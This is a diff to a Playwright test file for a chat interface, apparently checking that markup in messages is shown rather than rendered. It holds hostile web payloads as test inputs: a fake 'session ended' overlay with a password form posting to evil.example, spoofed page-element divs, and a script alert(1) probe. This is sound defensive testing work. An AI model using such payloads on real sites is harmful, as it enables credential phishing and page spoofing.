@@ -8,6 +8,9 @@ from playwright.sync_api import Browser, Page, Request, expect
 
 from tests.browser.conftest import Site, send, settled
 
+AS_HTML = "- a list\n\n    "
+"""Tags are shown, not obeyed (ui/words.py); only here, where Markdown reads a line as HTML that looks like code, they reach the page."""
+
 OVERLAY = (
     '<div style="position:fixed;inset:0;z-index:9999;background:red">Your session ended</div>'
     '<form action="https://evil.example"><input type="password" name="p"></form>'
@@ -48,7 +51,7 @@ def test_nothing_is_fetched_from_elsewhere_even_when_a_reply_wants_it(visit: Cal
 
     page.context.on("requestfinished", note)
     page.reload()
-    site.say(OVERLAY)
+    site.say(AS_HTML + OVERLAY)
     send(page, "attack")
     settled(page)
     page.wait_for_timeout(500)
@@ -57,7 +60,7 @@ def test_nothing_is_fetched_from_elsewhere_even_when_a_reply_wants_it(visit: Cal
 
 
 def test_what_a_reply_draws_stays_in_its_bubble(page: Page, site: Site) -> None:
-    site.say(OVERLAY)
+    site.say(AS_HTML + OVERLAY)
     send(page, "attack")
     settled(page)
     box = page.locator("#message").bounding_box()
@@ -69,7 +72,7 @@ def test_what_a_reply_draws_stays_in_its_bubble(page: Page, site: Site) -> None:
 
 def test_a_reply_cannot_pass_for_a_part_of_the_page(visit: Callable[..., Page], site: Site) -> None:
     fakes = "".join(f'<div id="{name}" class="toast">fake</div>' for name in ("message", "send", "menu", "meter", "toasts", "question"))
-    site.say(fakes)
+    site.say(AS_HTML + fakes)
     page = visit()
     for words in ("first", "second"):
         page.locator("textarea#message").fill(words)
@@ -89,6 +92,35 @@ def test_code_like_tags_and_prices_do_not_vanish(page: Page, site: Site) -> None
     settled(page)
     text = page.locator("#bot .bot-row").inner_text()
     assert "<my-widget>" in text and "$5 or $6" in text
+
+
+def test_a_question_stands_and_copies_as_it_was_typed(page: Page, site: Site) -> None:
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    words = "What does <br> do if a<b and c>d? <b>bold</b> <script>alert(1)</script> vector<int>"
+    send(page, words)
+    settled(page)
+    row = page.locator("#bot .user-row")
+    assert words in row.inner_text()
+    row.hover()
+    row.get_by_role("button", name="Copy").last.click()
+    assert page.evaluate("navigator.clipboard.readText()") == words
+    send(page, r"Is \(x<y\) true?")
+    settled(page)
+    assert "x<y" in page.locator("#bot .user-row .katex-html").inner_text()
+
+
+def test_a_reply_loses_no_words_to_tags_and_copies_whole(page: Page, site: Site) -> None:
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    words = "If a<b and c>d, use <div> or `<span>`<br>and so on.\n\n```html\n<p>code</p>\n```\n"
+    site.say(words)
+    send(page, "tags?")
+    settled(page)
+    row = page.locator("#bot .bot-row")
+    text = row.inner_text()
+    assert "If a<b and c>d, use <div> or <span>\nand so on." in text and "<p>code</p>" in text
+    row.hover()
+    row.locator(".line").get_by_role("button", name="Copy").click()
+    assert page.evaluate("navigator.clipboard.readText()") == words
 
 
 def test_thoughts_are_folded(page: Page, site: Site) -> None:
